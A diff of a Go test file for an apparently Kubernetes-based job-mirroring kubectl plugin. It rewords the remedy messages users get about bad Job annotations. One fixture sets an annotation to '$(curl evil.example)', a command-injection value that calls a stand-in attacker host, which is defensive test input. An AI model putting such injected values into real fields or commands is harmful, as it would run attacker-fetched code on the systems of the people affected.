@@ -46,19 +46,19 @@ func TestBadMark(t *testing.T) {
 	for name, tt := range map[string]struct{ evidence, remedy string }{
 		"an origin": {
 			`kwok-mgr: annotation jobmanagedby.github.io/mirror of Job default/other is "` + evilPlace + `"`,
-			"look for its mirror in each CONTEXT that it may have been dispatched to: " +
+			"search for its mirror in each CONTEXT: " +
 				quoted("kubectl --context CONTEXT get jobs -A -l jobmanagedby.github.io/origin-uid="+otherUID) +
-				"; then take the annotation off, and dispatch it to there: " + quoted(forget) +
+				"; then remove the annotation: " + quoted(forget) + ", and dispatch the Job to that context" +
 				"; or end it: " + quoted("kubectl jobs-managedby cancel other -n default --context kwok-mgr"),
 		},
 		"an origin whose mirror is known by its label": {
 			`kwok-mgr: annotation jobmanagedby.github.io/mirror of Job default/other is "` + evilPlace + `"`,
-			"take it off, and go on with the mirror on kwok-w1: " + quoted(forget) + ", and then " +
+			"remove the annotation: " + quoted(forget) + ", and resume with the mirror on kwok-w1: " +
 				quoted("kubectl jobs-managedby dispatch other -n default --context kwok-mgr --to kwok-w1"),
 		},
 		"a mirror": {
 			`kwok-w1: annotation jobmanagedby.github.io/origin of Job default/other is "$(curl evil.example)"`,
-			"find out whose mirror it is, by the uid of its origin, in each CONTEXT that it may be of: " +
+			"search each CONTEXT for the origin, whose UID is in its label: " +
 				quoted("kubectl --context CONTEXT get jobs -A -o custom-columns=NAMESPACE:.metadata.namespace,NAME:.metadata.name,UID:.metadata.uid"),
 		},
 	} {
